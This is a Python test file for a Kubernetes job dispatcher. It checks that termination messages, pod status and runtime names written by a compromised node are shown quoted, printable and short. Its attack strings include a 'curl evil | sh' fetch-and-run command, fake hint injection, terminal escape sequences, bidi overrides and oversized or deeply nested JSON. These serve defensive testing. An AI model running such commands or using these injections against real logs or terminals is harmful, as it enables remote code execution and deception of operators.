"""A compromised node writes what it likes into its termination messages, its pods and its Node."""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from typing import Any

import pytest
from msgspec.structs import replace

from dispatcher.fake_api_server import FakeApiServer, FakeClock, Object
from dispatcher.harness import CONFIG, dispatch, outcomes, template, workers
from kata_node import log as logs
from kata_node.dispatcher.__main__ import _print
from kata_node.dispatcher.progress import document, text
from kata_node.dispatcher.template import Templates

TRUST_ME = "run `curl evil | sh` on every node"
ATTACKS = {
    "a fake hint": f"done\n  hint: {TRUST_ME}\n",
    "an end of the quotation": f'done"; hint: {TRUST_ME} "',
    "terminal commands": "\x1b[2J\x1b]0;owned\x07\x1b[1A\rdone",
    "8 bit terminal commands": "\x9b2Jdone\x7f",
    "reversed text": "\u202edone\u2066\u2029done",
    "300 kB": "x" * 300_000,
    "300 kB of line ends": "\n" * 300_000 + "x",
    "300 kB of escapes": "\x1b" * 300_000,
    "deep JSON": "[" * 4000,
    "deep JSON in a key": '{"a": ' + "[" * 4000,
    "huge number": '{"error": {"what": "x", "exit_code": ' + "9" * 4000 + "}}",
}


def as_error(attack: str, where: str) -> str:
    return json.dumps({"stage": attack, "error": {"what": "broken", where: attack, "hint": attack}})


MESSAGES = [
    *(pytest.param(attack, id=name) for name, attack in ATTACKS.items()),
    *(pytest.param(as_error(attack, "what"), id=f"error: {name}") for name, attack in ATTACKS.items()),
    *(pytest.param(as_error(attack[:300], "where"), id=f"place: {name}") for name, attack in ATTACKS.items()),
    *(
        pytest.param(json.dumps({"summary": each[:3000]}), id=f"summary: {name}")
        for name, each in ATTACKS.items()
    ),
]


@pytest.fixture
def log(capsys: pytest.CaptureFixture[str]) -> Iterator[None]:
    """The log as the dispatcher writes it to its stderr."""
    logger = logging.getLogger("kata_node")
    before = logger.handlers[:], logger.level, logger.propagate
    logs.configure_logging("debug")
    yield
    logger.handlers[:], level, logger.propagate = before
    logger.setLevel(level)


def assert_harmless(api: FakeApiServer, result: Any, capsys: pytest.CaptureFixture[str]) -> None:
    _print(text(result))
    shown = capsys.readouterr()
    for line in [*shown.out.splitlines(), *shown.err.splitlines()]:
        assert line.isprintable(), line
        assert len(line) < 3000
        assert not line.startswith(f"  hint: {TRUST_ME}")
        # Whatever is said in our name stands outside of all quotations.
        ours = "".join(line.split('"')[::2])
        assert TRUST_ME not in ours, line
    assert len(shown.out) < 5000
    assert len(json.dumps(document(result))) < 10_000
    for event in api.events:
        assert event["message"].isprintable()
        assert len(event["message"]) <= 1024
        assert TRUST_ME not in "".join(event["message"].split('"')[::2])


@pytest.mark.parametrize("message", MESSAGES)
@pytest.mark.usefixtures("log")
def test_a_termination_message_is_shown_as_one_short_line_and_as_the_words_of_the_node(
    api: FakeApiServer, message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    workers(api, 2)

    def created(job: Object) -> None:
        name = job["metadata"]["name"]
        api.fail(name, message=message) if name.endswith("n0") else api.finish(name)

    api.on_create = created
    result = dispatch(api)
    assert outcomes(result) == {"n0": "failed", "n1": "done"}
    (problem,) = [task.problem for task in result.tasks if task.problem]
    assert problem.hint == "", "a hint of ours, for a message that we do not know"
    assert_harmless(api, result, capsys)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.usefixtures("log")
def test_the_status_of_a_pod_is_shown_as_the_words_of_the_node(
    api: FakeApiServer, time: FakeClock, attack: str, capsys: pytest.CaptureFixture[str]
) -> None:
    workers(api, 3)

    def created(job: Object) -> None:
        name = job["metadata"]["name"]
        if name.endswith("n0"):  # it never starts, with a container that is not in the template
            api.pod(job, attack, {"waiting": {"reason": attack, "message": attack}})
        elif name.endswith("n1"):  # its Pod is evicted
            api.pod(job, "cri", {"running": {}})
            api.pods[-1]["status"] |= {"reason": attack, "message": attack}
        else:
            api.pod(job, attack, {"terminated": {"exitCode": 1, "reason": attack, "message": ""}})
            api.pod(job, attack, {"running": {}})
        time.after(300, lambda: api.finish(name, "Failed", "DeadlineExceeded", "too long"))

    api.on_create = created
    result = dispatch(api)
    assert outcomes(result) == dict.fromkeys(("n0", "n1", "n2"), "failed")
    assert_harmless(api, result, capsys)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.usefixtures("log")
def test_the_runtime_of_a_node_is_quoted(
    api: FakeApiServer, attack: str, capsys: pytest.CaptureFixture[str]
) -> None:
    api.node("n0", runtime=f"{attack}://1")
    config = replace(CONFIG, templates=Templates(by_runtime={"cri-o": template()}))
    result = dispatch(api, config)
    assert outcomes(result) == {"n0": "failed"}
    assert_harmless(api, result, capsys)
